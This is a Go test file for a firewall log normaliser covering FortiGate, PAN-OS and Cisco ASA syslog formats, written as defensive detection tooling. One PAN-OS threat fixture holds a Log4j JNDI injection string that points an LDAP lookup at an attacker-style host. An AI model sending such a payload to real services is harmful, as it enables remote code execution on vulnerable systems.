package normalize_test

import (
	"testing"
	"time"

	"khien.vn/khien/internal/event"
)

const (
	fgtTraffic = `date=2025-01-12 time=10:15:42 devname="FGT-HN-01" devid="FG100FTK22012345" eventtime=1736651742123456789 tz="+0700" ` +
		`logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=10.20.3.44 srcport=51234 ` +
		`srcintf="port1" srcintfrole="lan" dstip=203.0.113.80 dstport=443 dstintf="wan1" dstintfrole="wan" srccountry="Reserved" ` +
		`dstcountry="Vietnam" sessionid=98765432 proto=6 action="close" policyid=12 policytype="policy" ` +
		`poluuid="3f2a1b0c-8d7e-51ee-0a1b-2c3d4e5f6a7b" policyname="LAN-to-Internet" service="HTTPS" trandisp="snat" ` +
		`transip=198.51.100.2 transport=40111 appcat="unscanned" duration=62 sentbyte=2345 rcvdbyte=18230 sentpkt=21 rcvdpkt=24 ` +
		`srcmac="00:0c:29:ab:cd:ef" mastersrcmac="00:0c:29:ab:cd:ef" srcserver=0 user="nguyen.van.a" group="KeToan"`
	fgtDeny = `date=2025-01-12 time=10:16:03 devname="FGT-HN-01" devid="FG100FTK22012345" logid="0000000013" type="traffic" ` +
		`subtype="forward" level="notice" vd="root" srcip=198.51.100.77 srcport=60112 srcintf="wan1" dstip=203.0.113.10 ` +
		`dstport=3389 dstintf="dmz" proto=6 action="deny" policyid=0 policytype="policy" service="RDP" sentbyte=0 rcvdbyte=0`
	fgtVirus = `date=2025-01-12 time=10:20:00 devname="FGT-HN-01" devid="FG100FTK22012345" eventtime=1736651800 tz="+0700" ` +
		`logid="0211008192" type="utm" subtype="virus" eventtype="infected" level="warning" vd="root" policyid=12 ` +
		`msg="File is infected." action="blocked" service="HTTP" sessionid=98765500 srcip=10.20.3.44 dstip=198.51.100.4 ` +
		`srcport=51300 dstport=80 proto=6 direction="incoming" filename="a.exe" quarskip="No-skip" virus="EICAR_TEST_FILE" ` +
		`dtype="Virus" ref="http://www.fortinet.com/ve?vn=EICAR_TEST_FILE" virusid=2172 url="http://198.51.100.4/a.exe" ` +
		`profile="default" agent="curl/8.5.0" analyticssubmit="false"`
	fgtIPS = `date=2025-01-12 time=10:21:00 devname="FGT-HN-01" devid="FG100FTK22012345" logid="0419016384" type="utm" ` +
		`subtype="ips" eventtype="signature" level="alert" vd="root" severity="critical" srcip=198.51.100.77 dstip=203.0.113.10 ` +
		`srcport=44321 dstport=8080 proto=6 action="dropped" attack="Apache.Log4j.Error.Log.Remote.Code.Execution" attackid=51006 ` +
		`msg="applications3: Apache.Log4j.Error.Log.Remote.Code.Execution, \"jndi:ldap\" in header"`
	fgtAdminLogin = `date=2025-01-12 time=10:22:00 devname="FGT-HN-01" devid="FG100FTK22012345" logid="0100032002" type="event" ` +
		`subtype="system" level="alert" vd="root" logdesc="Admin login failed" sn="0" user="admin" ui="https(198.51.100.77)" ` +
		`method="https" srcip=198.51.100.77 dstip=203.0.113.1 action="login" status="failed" reason="passwd_invalid" ` +
		`msg="Administrator admin login failed from https(198.51.100.77) because of invalid password"`
	fgtConfig = `date=2025-01-12 time=10:23:00 devname="FGT-HN-01" devid="FG100FTK22012345" logid="0100044547" type="event" ` +
		`subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="ssh(10.20.1.5)" ` +
		`action="Edit" cfgtid=1234 cfgpath="firewall.policy" cfgobj="12" cfgattr="action[accept->deny]" msg="Edit firewall.policy 12"`
)

func TestFortiGate(t *testing.T) {
	cases := []tcase{
		{
			name:   "traffic_close",
			ev:     rawSyslog(fgtTraffic),
			parser: "fortigate",
			want: map[string]string{
				"event.dataset": "fortinet.firewall", "event.module": "fortinet",
				"observer.name": "FGT-HN-01", "observer.serial_number": "FG100FTK22012345", "observer.vendor": "Fortinet",
				"event.code": "0000000013", "log.level": "notice", "event.timezone": "+0700",
				"source.ip": "10.20.3.44", "source.port": "51234", "destination.ip": "203.0.113.80", "destination.port": "443",
				"source.nat.ip": "198.51.100.2", "source.nat.port": "40111",
				"network.iana_number": "6", "network.transport": "tcp", "network.protocol": "https",
				"event.action": "close", "event.category": "network", "event.type": `["connection","end","allowed"]`,
				"event.outcome": "success", "rule.id": "12", "rule.name": "LAN-to-Internet",
				"rule.uuid":                       "3f2a1b0c-8d7e-51ee-0a1b-2c3d4e5f6a7b",
				"observer.ingress.interface.name": "port1", "observer.egress.interface.name": "wan1",
				"source.bytes": "2345", "destination.bytes": "18230", "network.bytes": "20575",
				"source.packets": "21", "destination.packets": "24", "network.packets": "45",
				"event.duration": "62000000000", "source.mac": "00-0C-29-AB-CD-EF",
				"destination.geo.country_name": "Vietnam", "user.name": "nguyen.van.a", "source.user.group.name": "KeToan",
				"fortinet.firewall.srcintfrole": "lan", "fortinet.firewall.devname": "FGT-HN-01", "fortinet.firewall.trandisp": "snat",
			},
			absent: []string{"source.geo.country_name"},
		},
		{
			name:   "traffic_deny",
			ev:     rawSyslog(fgtDeny),
			parser: "fortigate",
			want: map[string]string{"event.action": "deny", "event.type": `["connection","denied"]`, "event.outcome": "failure",
				"rule.id": "0", "network.protocol": "rdp", "source.ip": "198.51.100.77", "destination.port": "3389",
				"source.bytes": "0", "network.bytes": "0"},
			absent: []string{"source.packets", "event.duration"},
		},
		{
			name:   "utm_virus",
			ev:     rawSyslog(fgtVirus),
			parser: "fortigate",
			want: map[string]string{"event.kind": "alert", "event.category": "malware", "threat.software.name": "EICAR_TEST_FILE",
				"event.action": "blocked", "event.outcome": "failure", "fortinet.firewall.msg": "File is infected.",
				"fortinet.firewall.url": "http://198.51.100.4/a.exe"},
		},
		{
			name:   "utm_ips_escaped_quote",
			ev:     rawSyslog(fgtIPS),
			parser: "fortigate",
			want: map[string]string{"event.category": "intrusion_detection", "event.kind": "alert",
				"fortinet.firewall.attack": "Apache.Log4j.Error.Log.Remote.Code.Execution",
				"fortinet.firewall.msg":    `applications3: Apache.Log4j.Error.Log.Remote.Code.Execution, "jndi:ldap" in header`},
		},
		{
			name:   "event_admin_login_failed",
			ev:     rawSyslog(fgtAdminLogin),
			parser: "fortigate",
			want: map[string]string{"event.category": "authentication", "event.outcome": "failure", "event.type": "start",
				"user.name": "admin", "source.ip": "198.51.100.77", "event.action": "login"},
		},
		{
			name:   "event_config_change",
			ev:     rawSyslog(fgtConfig),
			parser: "fortigate",
			want:   map[string]string{"event.category": "configuration", "event.type": "change", "user.name": "admin", "fortinet.firewall.cfgattr": "action[accept->deny]"},
			absent: []string{"event.outcome"},
		},
		{
			name:   "plain_line_without_syslog",
			ev:     lineEvent(fgtDeny),
			parser: "fortigate",
			want:   map[string]string{"source.ip": "198.51.100.77"},
		},
		{
			name:    "unterminated_quote",
			ev:      rawSyslog(`date=2025-01-12 time=10:00:00 devname="FGT" devid="FG1" type="traffic" srcip=10.0.0.1 msg="cut here`),
			parser:  "fortigate",
			want:    map[string]string{"observer.serial_number": "FG1", "source.ip": "10.0.0.1"},
			wantErr: `value of "msg"`,
		},
		{
			name:    "bad_address",
			ev:      rawSyslog(`date=2025-01-12 time=10:00:00 devname="FGT" devid="FG1" type="traffic" srcip=10.0.0.256 dstport=99999`),
			parser:  "fortigate",
			absent:  []string{"source.ip", "destination.port"},
			wantErr: `"10.0.0.256" is not an IP address`,
		},
	}
	runCases(t, cases)

	t.Run("time_from_eventtime", func(t *testing.T) {
		ev := rawSyslog(fgtTraffic)
		norm(t, &ev)
		want := time.Unix(0, 1736651742123456789).UTC()
		if !ev.Time.Equal(want) {
			t.Errorf("Time = %v, want %v", ev.Time, want)
		}
	})
	t.Run("time_from_date_and_tz", func(t *testing.T) {
		ev := rawSyslog(`date=2025-01-12 time=10:15:42 devname="F" devid="FG1" tz="+0700" type="traffic"`)
		norm(t, &ev)
		if want := time.Date(2025, 1, 12, 3, 15, 42, 0, time.UTC); !ev.Time.Equal(want) {
			t.Errorf("Time = %v, want %v", ev.Time, want)
		}
	})
}

// Columns of the sample PAN-OS logs (positions of the PAN-OS 10/11
// syslog formats).
var panTrafficCols = map[int]string{
	0: "1", 1: "2025/01/12 10:30:05", 2: "016201000123", 3: "TRAFFIC", 4: "end", 5: "2561", 6: "2025/01/12 10:30:05",
	7: "10.20.3.44", 8: "203.0.113.80", 9: "198.51.100.2", 10: "203.0.113.80", 11: "Allow-Web", 12: `corp\nguyen.van.a`,
	14: "ssl", 15: "vsys1", 16: "trust", 17: "untrust", 18: "ethernet1/2", 19: "ethernet1/1", 20: "Log-Forward",
	21: "2025/01/12 10:30:05", 22: "412345", 23: "1", 24: "51234", 25: "443", 26: "30211", 27: "443", 28: "0x40041c",
	29: "tcp", 30: "allow", 31: "8364", 32: "2342", 33: "6022", 34: "25", 35: "2025/01/12 10:29:42", 36: "23",
	37: "computer-and-internet-info", 38: "0", 39: "7328419224", 40: "0x8000000000000000", 41: "10.0.0.0-10.255.255.255",
	42: "Vietnam", 43: "0", 44: "12", 45: "13", 46: "tcp-fin", 47: "0", 48: "0", 49: "0", 50: "0", 52: "PA-3220-HN",
	53: "from-policy", 56: "0", 58: "0", 60: "N/A", 61: "0", 62: "0", 63: "0", 64: "0",
	65: "9b1c0c55-3f1a-4b8e-9d2a-6f0e1f2a3b4c", 66: "0", 67: "0", 82: "KT-PC07", 101: "0",
	102: "2025-01-12T10:30:05.123+07:00", 104: "unknown-future-column",
}

var panThreatCols = map[int]string{
	0: "1", 1: "2025/01/12 10:31:10", 2: "016201000123", 3: "THREAT", 4: "vulnerability", 5: "2561", 6: "2025/01/12 10:31:10",
	7: "198.51.100.77", 8: "203.0.113.10", 9: "0.0.0.0", 10: "10.30.0.10", 11: "Inbound-DMZ", 14: "web-browsing", 15: "vsys1",
	16: "untrust", 17: "dmz", 18: "ethernet1/1", 19: "ethernet1/3", 20: "Log-Forward", 22: "512001", 23: "1", 24: "44321",
	25: "8080", 26: "0", 27: "8080", 28: "0x2000", 29: "tcp", 30: "reset-both",
	31: `portal.example.vn/api/login?user=${jndi:ldap://198.51.100.77/a},x`, 32: "Apache Log4j Remote Code Execution Vulnerability(91991)",
	33: "any", 34: "critical", 35: "client-to-server", 36: "7328419300", 37: "0x2000000000000000", 38: "Netherlands",
	39: "10.0.0.0-10.255.255.255", 41: "", 42: "0", 46: "curl/8.5.0", 49: "", 52: "", 54: "0", 55: "0", 56: "0", 57: "0",
	59: "PA-3220-HN", 63: "get", 69: "code-execution", 70: "AppThreat-8900-8520", 76: "7c1d0c55-3f1a-4b8e-9d2a-6f0e1f2a3b4d",
	107: "2025-01-12T10:31:10.456+07:00",
}

func TestPANOS(t *testing.T) {
	traffic := csvLine(105, panTrafficCols)
	threat := csvLine(110, panThreatCols)
	virusCols := map[int]string{0: "1", 1: "2025/01/12 10:40:00", 2: "016201000123", 3: "THREAT", 4: "wildfire-virus",
		6: "2025/01/12 10:40:00", 7: "10.20.3.44", 8: "198.51.100.4", 11: "Allow-Web", 12: "corp\\tran.thi.b", 24: "51300",
		25: "80", 29: "tcp", 30: "alert", 31: "invoice.pdf.exe", 32: "Virus/Win32.WGeneric.abc(123456789)", 34: "high",
		43: "9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08", 59: "PA-3220-HN"}
	cases := []tcase{
		{
			name:   "traffic_end",
			ev:     syslogEvent("PA-3220-HN", "", traffic),
			parser: "panos",
			want: map[string]string{
				"event.dataset": "panw.panos", "event.module": "panw",
				"observer.serial_number": "016201000123", "observer.name": "PA-3220-HN", "observer.vendor": "Palo Alto Networks",
				"source.ip": "10.20.3.44", "destination.ip": "203.0.113.80", "source.nat.ip": "198.51.100.2",
				"destination.nat.ip": "203.0.113.80", "source.port": "51234", "destination.port": "443",
				"source.nat.port": "30211", "destination.nat.port": "443", "rule.name": "Allow-Web",
				"rule.uuid": "9b1c0c55-3f1a-4b8e-9d2a-6f0e1f2a3b4c", "user.name": "nguyen.van.a", "user.domain": "corp",
				"source.user.name": "nguyen.van.a", "network.application": "ssl", "network.transport": "tcp",
				"observer.ingress.zone": "trust", "observer.egress.zone": "untrust",
				"observer.ingress.interface.name": "ethernet1/2", "observer.egress.interface.name": "ethernet1/1",
				"event.action": "allow", "event.category": "network", "event.type": `["connection","end","allowed"]`,
				"event.outcome": "success", "network.bytes": "8364", "source.bytes": "2342", "destination.bytes": "6022",
				"source.packets": "12", "destination.packets": "13", "network.packets": "25", "event.duration": "23000000000",
				"panw.panos.session_end_reason": "tcp-fin", "panw.panos.sessionid": "412345", "panw.panos.src_host": "KT-PC07",
				"panw.panos.category": "computer-and-internet-info", "panw.panos.high_res_timestamp": "2025-01-12T10:30:05.123+07:00",
				"panw.panos.column_105": "unknown-future-column",
			},
			absent: []string{"panw.panos.dstuser", "destination.user.name"},
		},
		{
			name:   "threat_vulnerability_quoted_url",
			ev:     syslogEvent("PA-3220-HN", "", threat),
			parser: "panos",
			want: map[string]string{
				"event.kind": "alert", "event.category": "intrusion_detection", "event.action": "reset-both",
				"event.type": "denied", "event.outcome": "failure", "source.ip": "198.51.100.77",
				"destination.nat.ip": "10.30.0.10", "panw.panos.threat.name": "Apache Log4j Remote Code Execution Vulnerability",
				"panw.panos.threat.id": "91991", "log.level": "critical", "event.severity": "5",
				"panw.panos.misc":     `portal.example.vn/api/login?user=${jndi:ldap://198.51.100.77/a},x`,
				"user_agent.original": "curl/8.5.0", "http.request.method": "get", "observer.name": "PA-3220-HN",
				"rule.uuid": "7c1d0c55-3f1a-4b8e-9d2a-6f0e1f2a3b4d", "panw.panos.thr_category": "code-execution",
			},
			absent: []string{"source.nat.ip", "source.nat.port"},
		},
		{
			name:   "threat_wildfire_virus",
			ev:     rawSyslog(csvLine(80, virusCols)),
			parser: "panos",
			want: map[string]string{"event.category": "malware", "file.name": "invoice.pdf.exe",
				"file.hash.sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
				"event.type":       "allowed", "event.outcome": "success", "user.name": "tran.thi.b"},
		},
		{
			name: "threat_url",
			ev: rawSyslog(csvLine(80, map[int]string{0: "1", 1: "2025/01/12 10:41:00", 2: "016201000123", 3: "THREAT", 4: "url",
				6: "2025/01/12 10:41:00", 7: "10.20.3.44", 8: "203.0.113.99", 29: "tcp", 30: "block-url",
				31: "bad.example.net/login.html", 32: "(9999)", 34: "informational"})),
			parser: "panos",
			want: map[string]string{"event.category": "web", "event.kind": "event", "url.original": "bad.example.net/login.html",
				"url.domain": "bad.example.net", "event.outcome": "failure", "event.severity": "1"},
		},
		{
			name: "system_log_header_only",
			ev: rawSyslog(`1,2025/01/12 10:50:00,016201000123,SYSTEM,auth,2561,2025/01/12 10:50:00,,auth-fail,admin,0,0,general,medium,` +
				`"failed authentication for user 'admin'. Reason: Invalid username or password. From: 198.51.100.77.",7328419400,0x0,0,0,0,0,,PA-3220-HN,0,0,2025-01-12T10:50:00.000+07:00`),
			parser: "panos",
			want:   map[string]string{"panw.panos.type": "SYSTEM", "panw.panos.subtype": "auth", "observer.serial_number": "016201000123"},
			absent: []string{"source.ip", "panw.panos.column_10"},
		},
		{
			name:    "short_traffic",
			ev:      rawSyslog(`1,2025/01/12 10:30:05,016201000123,TRAFFIC,end,2561,2025/01/12 10:30:05,10.20.3.44,203.0.113.80`),
			parser:  "panos",
			want:    map[string]string{"source.ip": "10.20.3.44"},
			wantErr: "TRAFFIC log with 9 columns",
		},
		{
			name:    "unterminated_quote",
			ev:      rawSyslog(`1,2025/01/12 10:30:05,016201000123,THREAT,url,2561,2025/01/12 10:30:05,"10.20.3.44`),
			parser:  "panos",
			wantErr: "unterminated quoted column",
		},
	}
	runCases(t, cases)

	t.Run("time_from_high_resolution_timestamp", func(t *testing.T) {
		ev := rawSyslog(traffic)
		norm(t, &ev)
		if want := time.Date(2025, 1, 12, 3, 30, 5, 123e6, time.UTC); !ev.Time.Equal(want) {
			t.Errorf("Time = %v, want %v", ev.Time, want)
		}
	})
}

func TestASA(t *testing.T) {
	asa := func(msg string) event.Event { return rawSyslog(msg) }
	// The syslog parser turns "host %ASA-6-302013: text" into host.name,
	// event.code and message.
	tagged := func(code, msg string) event.Event {
		ev := syslogEvent("asa-hn-01", "", msg)
		ev.Fields["event.code"] = code
		return ev
	}
	cases := []tcase{
		{
			name:   "106023_deny_tcp",
			ev:     asa(`%ASA-4-106023: Deny tcp src outside:198.51.100.77/51514 dst dmz:203.0.113.10/22 by access-group "OUTSIDE_IN" [0x8f2c1a3e, 0x0]`),
			parser: "cisco-asa",
			want: map[string]string{
				"event.dataset": "cisco.asa", "event.module": "cisco", "event.code": "106023", "cisco.asa.message_id": "106023",
				"event.severity": "4", "log.level": "warning", "observer.product": "ASA",
				"event.action": "deny", "event.type": `["connection","denied"]`, "event.outcome": "failure",
				"network.transport": "tcp", "source.ip": "198.51.100.77", "source.port": "51514",
				"destination.ip": "203.0.113.10", "destination.port": "22", "cisco.asa.source_interface": "outside",
				"cisco.asa.destination_interface": "dmz", "rule.name": "OUTSIDE_IN",
			},
		},
		{
			name:   "106023_deny_icmp_with_header",
			ev:     asa(`Jan 12 2025 10:00:00 asa-hn-01 : %ASA-4-106023: Deny icmp src outside:198.51.100.9 dst inside:10.1.1.5 (type 8, code 0) by access-group "OUTSIDE_IN" [0x0, 0x0]`),
			parser: "cisco-asa",
			want: map[string]string{"network.transport": "icmp", "source.ip": "198.51.100.9", "destination.ip": "10.1.1.5",
				"cisco.asa.icmp_type": "8", "cisco.asa.icmp_code": "0", "rule.name": "OUTSIDE_IN"},
			absent: []string{"source.port"},
		},
		{
			name:   "106023_identity_user",
			ev:     asa(`%ASA-4-106023: Deny udp src inside:10.1.1.50/137(CORP\nguyen.van.a) dst outside:203.0.113.255/137 by access-group "INSIDE_OUT" [0x0, 0x0]`),
			parser: "cisco-asa",
			want: map[string]string{"source.ip": "10.1.1.50", "source.port": "137", "network.transport": "udp",
				"source.user.name": "nguyen.van.a", "cisco.asa.source_username": `CORP\nguyen.van.a`},
		},
		{
			name:   "106023_user_paren_token",
			ev:     asa(`%ASA-4-106023: Deny protocol 47 src outside:198.51.100.9 (CORP\Nguyen Van A) dst inside:10.1.1.5 by access-group "OUTSIDE_IN" [0x0, 0x0]`),
			parser: "cisco-asa",
			want: map[string]string{"network.transport": "gre", "network.iana_number": "47",
				"cisco.asa.source_username": `CORP\Nguyen Van A`, "source.user.name": "Nguyen Van A", "source.user.domain": "CORP"},
		},
		{
			name:   "302013_outbound",
			ev:     asa(`%ASA-6-302013: Built outbound TCP connection 8843721 for outside:93.184.216.34/443 (93.184.216.34/443) to inside:10.1.1.20/51000 (203.0.113.5/51000)`),
			parser: "cisco-asa",
			want: map[string]string{"event.action": "built-connection", "network.direction": "outbound",
				"source.ip": "10.1.1.20", "source.port": "51000", "source.nat.ip": "203.0.113.5", "source.nat.port": "51000",
				"destination.ip": "93.184.216.34", "destination.port": "443", "cisco.asa.connection_id": "8843721",
				"event.type": `["connection","start","allowed"]`, "cisco.asa.source_interface": "inside"},
			absent: []string{"destination.nat.ip"},
		},
		{
			name:   "302013_inbound_tagged",
			ev:     tagged("ASA-6-302013", `Built inbound TCP connection 8843722 for outside:198.51.100.7/50123 (198.51.100.7/50123) to dmz:10.30.0.10/443 (203.0.113.10/443)`),
			parser: "cisco-asa",
			want: map[string]string{"event.code": "302013", "source.ip": "198.51.100.7", "destination.ip": "10.30.0.10",
				"destination.nat.ip": "203.0.113.10", "network.direction": "inbound", "observer.name": "asa-hn-01"},
		},
		{
			name:   "302015_udp_ipv6",
			ev:     asa(`%ASA-6-302015: Built outbound UDP connection 99 for outside:2001:db8::53/53 (2001:db8::53/53) to inside:2001:db8:1::20/61000 (2001:db8:1::20/61000)`),
			parser: "cisco-asa",
			want:   map[string]string{"network.transport": "udp", "destination.ip": "2001:db8::53", "source.ip": "2001:db8:1::20", "source.port": "61000"},
			absent: []string{"source.nat.ip"},
		},
		{
			name:   "302014_teardown",
			ev:     asa(`%ASA-6-302014: Teardown TCP connection 8843721 for outside:93.184.216.34/443 to inside:10.1.1.20/51000 duration 0:01:02 bytes 6150 TCP FINs from inside (CORP\nguyen.van.a)`),
			parser: "cisco-asa",
			want: map[string]string{"event.action": "teardown-connection", "event.type": `["connection","end"]`,
				"source.ip": "93.184.216.34", "destination.ip": "10.1.1.20", "event.duration": "62000000000",
				"network.bytes": "6150", "event.reason": "TCP FINs from inside", "user.name": "nguyen.van.a", "user.domain": "CORP"},
		},
		{
			name:   "302016_teardown_udp",
			ev:     asa(`%ASA-6-302016: Teardown UDP connection 99 for outside:203.0.113.53/53 to inside:10.1.1.20/61000 duration 0:02:01 bytes 512`),
			parser: "cisco-asa",
			want:   map[string]string{"network.transport": "udp", "event.duration": "121000000000", "network.bytes": "512"},
			absent: []string{"event.reason"},
		},
		{
			name:   "113004_aaa_success",
			ev:     asa(`%ASA-6-113004: AAA user authentication Successful : server = 10.1.1.10 : user = nguyen.van.a`),
			parser: "cisco-asa",
			want: map[string]string{"event.category": "authentication", "event.outcome": "success", "user.name": "nguyen.van.a",
				"cisco.asa.aaa.server": "10.1.1.10", "event.action": "aaa-success"},
		},
		{
			name:   "113005_aaa_rejected",
			ev:     asa(`%ASA-6-113005: AAA user authentication Rejected : reason = AAA failure : server = 10.1.1.10 : user = ***** : user IP = 198.51.100.23`),
			parser: "cisco-asa",
			want: map[string]string{"event.outcome": "failure", "event.reason": "AAA failure", "source.ip": "198.51.100.23",
				"user.name": "*****"},
		},
		{
			name:   "113015_local_db",
			ev:     asa(`%ASA-6-113015: AAA user authentication Rejected : reason = Invalid password : local database : user = admin : user IP = 2001:db8::77`),
			parser: "cisco-asa",
			want: map[string]string{"event.outcome": "failure", "event.reason": "Invalid password", "user.name": "admin",
				"source.ip": "2001:db8::77", "cisco.asa.aaa.server": "local database"},
		},
		{
			name:   "605004_login_denied",
			ev:     asa(`%ASA-6-605004: Login denied from 198.51.100.23/52314 to outside:203.0.113.1/ssh for user "admin"`),
			parser: "cisco-asa",
			want: map[string]string{"event.action": "login-denied", "event.outcome": "failure", "source.ip": "198.51.100.23",
				"source.port": "52314", "destination.ip": "203.0.113.1", "destination.port": "22", "network.protocol": "ssh", "user.name": "admin"},
		},
		{
			name:   "605005_login_permitted_console",
			ev:     asa(`%ASA-6-605005: Login permitted from serial to console for user "enable_15"`),
			parser: "cisco-asa",
			want:   map[string]string{"event.outcome": "success", "user.name": "enable_15"},
			absent: []string{"source.ip"},
		},
		{
			name:   "111008_command",
			ev:     asa(`%ASA-5-111008: User 'admin' executed the 'access-list OUTSIDE_IN extended permit ip any any' command.`),
			parser: "cisco-asa",
			want: map[string]string{"event.category": "configuration", "user.name": "admin",
				"cisco.asa.command_line": "access-list OUTSIDE_IN extended permit ip any any", "log.level": "notice"},
		},
		{
			name: "733100_scanning",
			ev: asa(`%ASA-4-733100: [ Scanning] drop rate-1 exceeded. Current burst rate is 12 per second, max configured rate is 10; ` +
				`Current average rate is 7 per second, max configured rate is 5; Cumulative total count is 4234`),
			parser: "cisco-asa",
			want: map[string]string{"event.kind": "alert", "cisco.asa.burst.object": "Scanning", "cisco.asa.burst.id": "rate-1",
				"cisco.asa.burst.current_burst_rate": "12", "cisco.asa.burst.configured_burst_rate": "10",
				"cisco.asa.burst.current_average_rate": "7", "cisco.asa.burst.configured_average_rate": "5",
				"cisco.asa.burst.cumulative_count": "4234"},
		},
		{
			name:   "733100_host",
			ev:     asa(`%ASA-4-733100: [ 198.51.100.77] drop rate-2 exceeded. Current burst rate is 40 per second, max configured rate is 32; Current average rate is 35 per second, max configured rate is 16; Cumulative total count is 21000`),
			parser: "cisco-asa",
			want:   map[string]string{"source.ip": "198.51.100.77", "cisco.asa.burst.id": "rate-2"},
		},
		{
			name:   "ftd_other_id",
			ev:     asa(`%FTD-1-104001: (Primary) Switching to ACTIVE - Other unit wants me Active.`),
			parser: "cisco-asa",
			want:   map[string]string{"observer.product": "FTD", "event.code": "104001", "log.level": "alert"},
			absent: []string{"event.action"},
		},
		{
			name:    "302013_broken",
			ev:      asa(`%ASA-6-302013: Built sideways TCP connection 1 for outside:1.2.3.4/1 to inside:10.0.0.1/2`),
			parser:  "cisco-asa",
			wantErr: `unknown direction "sideways"`,
		},
		{
			name:   "106023_bad_address",
			ev:     asa(`%ASA-4-106023: Deny tcp src outside:198.51.100.777/1 dst inside:10.0.0.1/2 by access-group "X" [0x0, 0x0]`),
			parser: "cisco-asa",
			want:   map[string]string{"destination.ip": "10.0.0.1", "source.address": "198.51.100.777"},
			absent: []string{"source.ip"},
		},
	}
	runCases(t, cases)
}

// norm normalises ev with the default registry and fails on a parse error.
func norm(t *testing.T, ev *event.Event) {
	t.Helper()
	if name := defaultRegistry.Normalize(ev); name == "" || ev.ParseError != "" {
		t.Fatalf("Normalize = %q, ParseError %q", name, ev.ParseError)
	}
}
